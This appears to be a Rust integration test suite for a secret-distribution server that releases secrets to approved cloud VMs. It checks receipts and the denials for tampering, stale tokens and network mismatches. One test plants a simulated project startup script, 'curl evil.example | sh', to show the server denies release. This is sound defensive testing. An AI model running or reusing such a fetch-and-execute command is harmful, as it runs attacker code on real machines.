//! `GetToken` against the real `tokenserver` binary over mTLS with gcpsim: an approved VM receives its
//! secrets with a verifiable receipt (and the release is recorded), and every way the VM, its token,
//! its approval or its connection can be wrong is denied with the named check.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::support;

use crate::support::approvals::{approve, approve_with, sample_secrets, store_signed};
use crate::support::client::{assert_denied, begin_session, get_token};
use crate::support::keys::Approver;
use crate::support::world::{World, demo_toml, scenario_from};
use crate::support::{AUDIENCE, GOOD_VM, GOOD_VM_ID, TAMPERED_VM, TAMPERED_VM_ID};
use tokendist_core::receipt::Receipt;
use tokendist_sim::{Api, FaultSpec, MintTokenRequest};
use tokendist_store::{EventKind, EventQuery, Revocation};
use tokendist_testkit::demo::{GOOD_DIGEST, demo_template_settings};
use tonic::Code;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approved_vm_receives_its_secrets_with_a_verifiable_receipt_and_the_release_is_recorded() {
    let world = World::start().await;
    let secrets = sample_secrets("release");
    approve_with(&world, GOOD_VM, &secrets, |approval| {
        // Pins that hold for this caller must pass, not merely be skipped.
        approval.peer_address = Some("127.0.0.1".into());
        approval.client_cert_serial = Some(world.client_identity.serial_hex.clone());
    })
    .await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;

    let response = world
        .release(&mut client, GOOD_VM)
        .await
        .unwrap_or_else(|status| panic!("{status:?}\n{}", server.log_text()));

    let received: Vec<(String, Vec<u8>)> = response
        .secrets
        .iter()
        .map(|s| (s.name.clone(), s.data.clone()))
        .collect();
    let expected: Vec<(String, Vec<u8>)> = secrets
        .iter()
        .map(|s| (s.name.clone(), s.data.clone()))
        .collect();
    assert_eq!(received, expected);
    assert!(
        response
            .secrets
            .iter()
            .all(|s| s.r#type == tokendist_proto::v1::SecretType::Raw as i32)
    );

    let wire = response.receipt.unwrap();
    let receipt = Receipt {
        event_id: wire.event_id.clone(),
        instance_id: GOOD_VM_ID.into(),
        secrets: secrets.iter().map(|s| s.name.clone()).collect(),
        evidence_digest: hex::encode(&wire.evidence_digest),
        issued_at: chrono::DateTime::from_timestamp(wire.issued_at_unix, 0).unwrap(),
        key_id: wire.key_id.clone(),
        signature: base64::Engine::encode(
            &base64::engine::general_purpose::STANDARD,
            &wire.signature,
        ),
    };
    receipt
        .verify(&world.keys.receipt.verifying_key())
        .expect("the receipt verifies with the server's receipt key");
    let mut forged = receipt.clone();
    forged.instance_id = TAMPERED_VM_ID.into();
    assert!(forged.verify(&world.keys.receipt.verifying_key()).is_err());

    let events = world
        .store
        .list_events(&EventQuery::latest(100).for_instance(GOOD_VM_ID))
        .await
        .unwrap();
    let released: Vec<_> = events
        .iter()
        .filter(|e| e.kind == EventKind::Released)
        .collect();
    assert_eq!(released.len(), 1, "{events:?}");
    assert_eq!(released[0].id.as_str(), wire.event_id);
    let stored: Receipt = serde_json::from_value(released[0].receipt.clone().unwrap()).unwrap();
    assert_eq!(stored.signature, receipt.signature);
    stored.verify(&world.keys.receipt.verifying_key()).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_vm_is_denied_pending_approval_and_its_attempts_are_counted() {
    let world = World::start().await;
    approve(&world, GOOD_VM, &sample_secrets("good")).await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;

    let mut reviews = Vec::new();
    for attempt in 0..2 {
        let status = assert_denied(
            world.release(&mut client, TAMPERED_VM).await,
            Code::PermissionDenied,
            &["approval.state"],
        );
        let denial = tokendist_proto::denial_of(&status).unwrap();
        assert!(denial.pending_approval);
        reviews.push(
            world
                .store
                .get_pending(TAMPERED_VM_ID)
                .await
                .unwrap()
                .unwrap(),
        );
        if attempt == 0 {
            // Logging goes down: the retry within a minute reuses the review made on the first
            // attempt instead of asking Google again (one evidence collection per VM per minute).
            logging_down(&world);
        }
    }
    assert_eq!(reviews[0].failed_checks, reviews[1].failed_checks);
    assert_eq!(reviews[0].checks_evaluated, reviews[1].checks_evaluated);
    world.sim.handle().clear_faults(Some(Api::Logging));
    let pending = world.store.list_pending().await.unwrap();
    assert_eq!(pending.len(), 1, "{pending:?}");
    assert_eq!(pending[0].instance_id, TAMPERED_VM_ID);
    assert_eq!(pending[0].instance_name, TAMPERED_VM);
    assert_eq!(pending[0].attempts, 2);
    assert_eq!(pending[0].peer_address.as_deref(), Some("127.0.0.1"));
    // The caller learns only approval.state; the pending record keeps the review Alice needs.
    let recorded = failed_names(&pending[0]);
    assert_eq!(recorded[0], "approval.state", "{recorded:?}");
    for tampered in ["instance.metadata", "auditlog.clean"] {
        assert!(recorded.contains(&tampered), "{tampered}: {recorded:?}");
    }
    let evaluated = pending[0].checks_evaluated.unwrap();
    assert!(
        evaluated as usize > recorded.len(),
        "{evaluated} {recorded:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unapproved_vm_reviewed_while_logging_is_down_is_not_blamed_for_the_outage() {
    let world = World::start().await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    logging_down(&world);
    assert_denied(
        world.release(&mut client, TAMPERED_VM).await,
        Code::PermissionDenied,
        &["approval.state"],
    );
    let pending = world
        .store
        .get_pending(TAMPERED_VM_ID)
        .await
        .unwrap()
        .unwrap();
    let recorded = failed_names(&pending);
    assert_eq!(recorded, ["approval.state"], "{:?}", pending.failed_checks);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unapproved_vm_that_passes_its_review_is_recorded_with_approval_state_alone() {
    let world = World::start().await;
    // Alice's demo policy: the good VM's digest trusted, its cloud-config template configured.
    let policy: String = demo_template_settings()
        .lines()
        .map(|line| format!("policy.{line}\n"))
        .collect();
    let config = world.path("demo-policy.toml");
    std::fs::write(
        &config,
        world.config_text(
            &[&world.keys.alice.public_path],
            &format!("policy.trusted_container_digests = [\"{GOOD_DIGEST}\"]\n{policy}"),
        ),
    )
    .unwrap();
    let server = world.server_with_config("demo-policy", &config).await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["approval.state"],
    );
    let pending = world.store.get_pending(GOOD_VM_ID).await.unwrap().unwrap();
    let recorded = failed_names(&pending);
    assert_eq!(recorded, ["approval.state"], "{:?}", pending.failed_checks);
    assert!(pending.checks_evaluated.unwrap() > 10, "{pending:?}");
}

/// The names of the checks a pending record holds as failed, in order.
fn failed_names(pending: &tokendist_store::PendingRecord) -> Vec<&str> {
    pending
        .failed_checks
        .iter()
        .map(|c| c.name.as_str())
        .collect()
}

/// Cloud Logging answers 503 to every call until the fault is cleared.
fn logging_down(world: &World) {
    world
        .sim
        .handle()
        .inject_fault(FaultSpec {
            api: Api::Logging,
            status: Some(503),
            count: None,
            rate: None,
            latency_ms: None,
        })
        .unwrap();
}

/// A world with the good VM approved (as it is, with sample secrets) and a server running.
async fn approved_world() -> (
    World,
    support::server::ServerProcess,
    support::client::Client,
) {
    let world = World::start().await;
    approve(&world, GOOD_VM, &sample_secrets("good")).await;
    let server = world.server("server").await;
    let client = world.client(server.addr).await;
    (world, server, client)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn revoked_approval_is_denied_by_approval_state() {
    let world = World::start().await;
    let approval = approve(&world, GOOD_VM, &sample_secrets("revoked")).await;
    // Alice revokes in the console: the revocation is part of the signed record.
    let mut revoked = approval.clone();
    revoked.revoked_at = Some(chrono::Utc::now());
    revoked.revoke_reason = Some("VM decommissioned".into());
    revoked.revision = approval.revision + 1;
    tokendist_core::approval::sign(&mut revoked, &world.keys.alice.key);
    world
        .store
        .put_approval(revoked, Some(approval.revision))
        .await
        .unwrap();
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["approval.state"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn revocation_written_without_a_signature_still_denies() {
    let world = World::start().await;
    let approval = approve(&world, GOOD_VM, &sample_secrets("revoked")).await;
    // Anyone with store access can revoke (Store::revoke); it does not re-sign, so both checks fail.
    world
        .store
        .revoke(
            GOOD_VM_ID,
            Revocation::new("incident", chrono::Utc::now(), approval.revision),
        )
        .await
        .unwrap();
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["approval.signature", "approval.state"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn expired_approval_is_denied_by_approval_state() {
    let world = World::start().await;
    approve_with(&world, GOOD_VM, &sample_secrets("expired"), |a| {
        a.expires_at = Some(chrono::Utc::now() - chrono::Duration::minutes(1));
    })
    .await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["approval.state"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approval_signed_by_an_untrusted_key_is_denied_by_approval_signature() {
    let world = World::start().await;
    let mallory = Approver::create(world.dir.path(), "mallory");
    let mut approval = support::approvals::propose(&world, GOOD_VM).await;
    approval.secrets =
        support::approvals::seal_secrets(&world, GOOD_VM_ID, &sample_secrets("mallory"));
    store_signed(&world, approval, &mallory.key).await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["approval.signature"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approval_field_edited_in_the_store_after_signing_is_denied_by_approval_signature() {
    let world = World::start().await;
    let approval = approve_with(&world, GOOD_VM, &sample_secrets("edited"), |a| {
        a.expires_at = Some(chrono::Utc::now() + chrono::Duration::hours(1));
    })
    .await;
    // Someone with write access to the store extends the approval by a year, keeping the signature.
    let mut edited = approval.clone();
    edited.expires_at = Some(chrono::Utc::now() + chrono::Duration::days(365));
    edited.revision = approval.revision + 1;
    let stored = world
        .store
        .put_approval(edited, Some(approval.revision))
        .await
        .unwrap();
    assert_eq!(stored.signature, approval.signature);
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["approval.signature"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn token_for_another_audience_is_unauthenticated_by_identity_claims() {
    let (world, _server, mut client) = approved_world().await;
    let session = begin_session(&mut client, &world.good_token()).await;
    let token = world.token_with(MintTokenRequest {
        vm: GOOD_VM.into(),
        audience: "https://some-other-service.example".into(),
        format: Some("full".into()),
        licenses: false,
        iat: None,
        exp: None,
    });
    assert_denied(
        get_token(&mut client, &token, &session.session_id).await,
        Code::Unauthenticated,
        &["identity.claims"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stale_token_is_unauthenticated_by_identity_fresh() {
    let (world, _server, mut client) = approved_world().await;
    let session = begin_session(&mut client, &world.good_token()).await;
    let issued = chrono::Utc::now().timestamp() - 600;
    let token = world.token_with(MintTokenRequest {
        vm: GOOD_VM.into(),
        audience: tokendist_core::identity::session_audience(AUDIENCE, &session.nonce),
        format: Some("full".into()),
        licenses: false,
        iat: Some(issued),
        exp: Some(issued + 3600),
    });
    assert_denied(
        get_token(&mut client, &token, &session.session_id).await,
        Code::Unauthenticated,
        &["identity.fresh"],
    );
}

/// The tampered VM's own token finds no approval (approvals are looked up by the token's instance id),
/// so the interesting case is a store writer moving Alice's approval of the good VM under the tampered
/// VM's key: the record is intact (signature valid) but names another instance.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approval_of_another_instance_moved_under_the_callers_id_is_denied_by_identity_instance() {
    let world = World::start().await;
    approve(&world, GOOD_VM, &sample_secrets("moved")).await;
    let db = world.path("tokendist.db");
    let conn = rusqlite::Connection::open(&db).unwrap();
    let moved = conn
        .execute(
            "UPDATE approvals SET instance_id = ?1 WHERE instance_id = ?2",
            [TAMPERED_VM_ID, GOOD_VM_ID],
        )
        .unwrap();
    assert_eq!(moved, 1);
    drop(conn);
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, TAMPERED_VM).await,
        Code::PermissionDenied,
        &["identity.instance"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approval_for_another_service_account_is_denied_by_both_service_account_checks() {
    let world = World::start().await;
    approve_with(&world, GOOD_VM, &sample_secrets("sa"), |a| {
        a.service_account = "other@bob-project.iam.gserviceaccount.com".into();
    })
    .await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["identity.service_account", "instance.service_account"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn user_data_changed_with_gcloud_add_metadata_is_denied_by_user_data_and_audit_log() {
    let (world, _server, mut client) = approved_world().await;
    let tampered = world.path("user-data.yaml");
    std::fs::write(&tampered, "#cloud-config\nruncmd:\n- echo bob was here\n").unwrap();
    let argument = format!("user-data={}", tampered.display());
    let add_metadata = || {
        world.gcloud(&[
            "compute",
            "instances",
            "add-metadata",
            GOOD_VM,
            "--zone",
            support::ZONE,
            "--metadata-from-file",
            &argument,
        ]);
    };
    add_metadata();
    world.assert_decodable(GOOD_VM).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &[
            "auditlog.clean",
            "instance.fingerprint",
            "instance.user_data",
        ],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ssh_keys_in_the_instance_metadata_are_denied_by_instance_metadata() {
    // The VM was created with an ssh-keys item (no setMetadata in its history), and approved as is.
    let text = demo_toml().replacen(
        "google-logging-enabled = \"true\"\n",
        "google-logging-enabled = \"true\"\nssh-keys = \"bob:ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExtraKeyForTheTest bob@laptop\"\n",
        1,
    );
    let world = World::start_with(scenario_from(&text)).await;
    approve(&world, GOOD_VM, &sample_secrets("ssh")).await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["instance.metadata"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn project_wide_metadata_change_is_denied_by_audit_log_and_project_metadata() {
    let (world, _server, mut client) = approved_world().await;
    world.gcloud(&[
        "compute",
        "project-info",
        "add-metadata",
        "--metadata",
        "startup-script=curl evil.example | sh",
    ]);
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["auditlog.clean", "instance.project_metadata"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fingerprint_changed_by_stop_and_start_is_denied_by_instance_fingerprint() {
    let (world, _server, mut client) = approved_world().await;
    let http = reqwest::Client::new();
    let base = format!(
        "{}/compute/v1/projects/{}/zones/{}/instances/{GOOD_VM}",
        world.sim.api_url(),
        support::PROJECT,
        support::ZONE
    );
    let stop_start = || async {
        for action in ["stop", "start"] {
            let response = http.post(format!("{base}/{action}")).send().await.unwrap();
            assert!(response.status().is_success(), "{action}: {response:?}");
        }
    };
    stop_start().await;
    world.assert_decodable(GOOD_VM).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["instance.fingerprint"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn boot_image_outside_the_approved_set_is_denied_by_instance_boot_image() {
    let world = World::start().await;
    approve_with(&world, GOOD_VM, &sample_secrets("image"), |a| {
        a.boot_images = vec!["projects/cos-cloud/global/images/cos-stable-121-18867-0-94".into()];
    })
    .await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["instance.boot_image"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn caller_from_another_address_is_denied_by_network_peer_ip() {
    let world = World::start().await;
    approve_with(&world, GOOD_VM, &sample_secrets("ip"), |a| {
        a.peer_address = Some("34.121.225.36".into());
    })
    .await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["network.peer_ip"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn client_certificate_with_another_serial_is_denied_by_network_client_cert() {
    let world = World::start().await;
    approve_with(&world, GOOD_VM, &sample_secrets("serial"), |a| {
        a.client_cert_serial = Some(world.client_identity.serial_hex.clone());
    })
    .await;
    let server = world.server("server").await;
    let other = world.pki.client(&[0x7f, 0x00, 0x00, 0x01]);
    let mut client = support::client::connect(server.addr, &world.pki.ca_pem, &other).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["network.client_cert"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn compute_api_503_is_unavailable_and_release_resumes_once_the_fault_clears() {
    let (world, server, mut client) = approved_world().await;
    world
        .sim
        .handle()
        .inject_fault(FaultSpec {
            api: Api::Compute,
            status: Some(503),
            count: None,
            rate: None,
            latency_ms: None,
        })
        .unwrap();
    let status = world.release(&mut client, GOOD_VM).await.unwrap_err();
    assert_eq!(status.code(), Code::Unavailable, "{status:?}");
    assert!(status.message().contains("compute"), "{status:?}");
    // An outage is not a denial: nothing is recorded as pending.
    assert!(world.store.list_pending().await.unwrap().is_empty());

    world.sim.handle().clear_faults(Some(Api::Compute));
    world
        .release(&mut client, GOOD_VM)
        .await
        .unwrap_or_else(|status| panic!("{status:?}\n{}", server.log_text()));
}

/// The server's logging client reads 1,000 entries per page: with 2,100 benign entries first, the
/// denied `attachDisk` is the last entry of page 3.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn denied_method_on_page_three_of_the_audit_log_is_denied_by_audit_log() {
    let text = demo_toml().replacen(
        "labels = { app = \"tokenclient\" }\n",
        "labels = { app = \"tokenclient\" }\npad_history = 2100\n[[vm.history]]\nmethod = \"v1.compute.instances.attachDisk\"\ntime = \"2026-11-04T09:30:00Z\"\n",
        1,
    );
    let world = World::start_with(scenario_from(&text)).await;
    assert!(world.sim.handle().audit_entry_count() > 2001);
    approve(&world, GOOD_VM, &sample_secrets("page3")).await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["auditlog.clean"],
    );
}
